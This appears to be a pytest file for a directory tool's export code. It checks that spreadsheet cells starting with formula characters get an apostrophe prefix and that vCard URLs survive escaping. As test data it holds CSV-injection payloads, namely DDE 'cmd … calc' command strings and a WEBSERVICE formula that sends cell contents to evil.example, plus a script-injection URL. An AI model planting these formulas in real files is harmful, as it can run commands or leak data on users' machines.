"""Issue 26, export injection: what a spreadsheet or an address book reads is what the data says.

A `--plain` cell that a spreadsheet would run as a formula (=, +, -, @, tab, carriage return,
full-width forms), phone numbers included, starts with an apostrophe, and dropping one leading
apostrophe gives the data back exactly. A vCard URL carries no character that vCard escaping
touches, so an importer gets the same address whether it undoes escapes or not.

Before: `+852+cmd|' /C calc'!A0` in a label or note passed as a phone number; a website with
`;` became `'\\;alert(1)\\;//` in the card, another address for an importer that does not unescape."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import DATA_DIR, Invoke
from hkprobono.export import vcard as export_vcard
from hkprobono.model import Directory, Organisation
from hkprobono.render.tsv import cell
from hkprobono.text import one_line

ON = dt.date(2026, 11, 26)
PAYLOADS = [
    "+852+cmd|' /C calc'!A0",
    '+852+WEBSERVICE("https://evil.example/?"&A1)',
    '=HYPERLINK("https://evil.example","click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b852 2345 6789",
    "'=already quoted",
]


def undo(value: str) -> str:
    """What the README tells a program to do: drop one leading apostrophe."""
    return value[1:] if value.startswith("'") else value


RISKY = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_opened_with_an_apostrophe(payload: str) -> None:
    written = cell(payload)
    assert written.startswith("'") and undo(written) == payload


def test_a_phone_number_is_a_phone_number_after_the_documented_undo() -> None:
    assert cell("+852 9828 7176") == "'+852 9828 7176"
    assert undo(cell("+852 9828 7176")) == "+852 9828 7176"
    assert cell("plain text") == "plain text" and cell("") == "" and cell(42) == "42"


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(st.text(max_size=60))
def test_any_cell_is_safe_and_undone_exactly(text: str) -> None:
    written = cell(text)
    assert "\t" not in written and "\n" not in written and "\r" not in written
    assert not written.startswith(RISKY)  # a risky start is always behind an apostrophe
    assert undo(written) == one_line(text).replace("\t", " ")


@pytest.fixture
def payload_file(tmp_path: Path) -> Path:
    text = (DATA_DIR / "minimal.toml").read_text(encoding="utf-8")
    text = text.replace('name = "Alpha Legal Aid"', "name = \"+852+cmd|' /C calc'!A0\"")
    text = text.replace('label = "Legal"', 'label = "=HYPERLINK(\\"https://evil.example\\")"')
    text = text.replace('keywords = ["lawyer", "appeal"]', 'keywords = ["lawyer", "appeal", "@SUM(calc)"]')
    path = tmp_path / "payload.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "args", [["list", "--plain"], ["search", "calc", "--plain"], ["search", "lawyer", "--plain"]], ids=" ".join
)
def test_payloads_in_the_data_never_start_a_plain_cell(invoke: Invoke, payload_file: Path, args: list[str]) -> None:
    result = invoke("--data", str(payload_file), *args)
    assert result.exit_code == 0, result.output
    cells = [c for line in result.stdout.splitlines() for c in line.split("\t")]
    assert "'+852+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(RISKY)]
    if args[0] == "list":
        assert "'+852 2345 6789" in cells  # the phone, behind the same apostrophe


# -- vCard URLs ------------------------------------------------------------------------------------------------
URLS = [
    "https://example.org/';alert(1);//",
    "https://example.org/a,b;c=d?q=1,2",
    "https://example.org/path\\with\\backslashes",
    "https://example.org/plain",
]


def _with(directory: Directory, website: str) -> Organisation:
    org = directory.by_slug("refugee-union")
    assert org is not None
    return org._replace(contact=org.contact._replace(website=website, other_websites=(website + "/other",)))


@pytest.mark.parametrize("url", URLS)
def test_a_vcard_url_is_read_the_same_with_or_without_unescaping(directory: Directory, url: str) -> None:
    import vobject

    text = export_vcard.card(directory, _with(directory, url), ON)
    unfolded = text.replace("\r\n ", "")
    raw = [line[len("URL:") :] for line in unfolded.split("\r\n") if line.startswith("URL:")]
    assert raw and not any(ch in value for value in raw for ch in ";,\\")
    card = vobject.readOne(text)
    assert [u.value for u in card.contents["url"]] == raw  # a reader that unescapes gets the same
    assert raw[0] == export_vcard.uri(url)
    assert raw[0].replace("%3B", ";").replace("%2C", ",").replace("%5C", "\\") == url  # nothing else changed


@pytest.mark.slow
@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("abc/;,\\?=&'%"), max_size=30))
def test_any_url_path_survives_both_kinds_of_importer(path: str) -> None:
    url = "https://example.org/" + path
    written = export_vcard.uri(url)
    assert not any(ch in written for ch in ";,\\")
    import vobject

    card = vobject.vCard()
    card.add("fn").value = "x"
    card.add("url").value = written
    again = vobject.readOne(card.serialize())
    assert again.url.value == written


def test_vcard_urls_pass_the_strict_validator(directory: Directory, tmp_path: Path) -> None:
    validator = pytest.importorskip("vcard.vcard_validator")
    import warnings

    for n, url in enumerate(URLS):
        text = export_vcard.card(directory, _with(directory, url), ON)
        lowered = re.sub(r"(?m)^([A-Z-]+);TYPE=([A-Z,]+):", lambda m: f"{m[1]};TYPE={m[2].lower()}:", text)
        path = tmp_path / f"{n}.vcf"
        path.write_text(lowered.encode("utf-8").decode("latin-1"), encoding="utf-8", newline="")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            assert validator.validate_file(str(path), False) == "", url
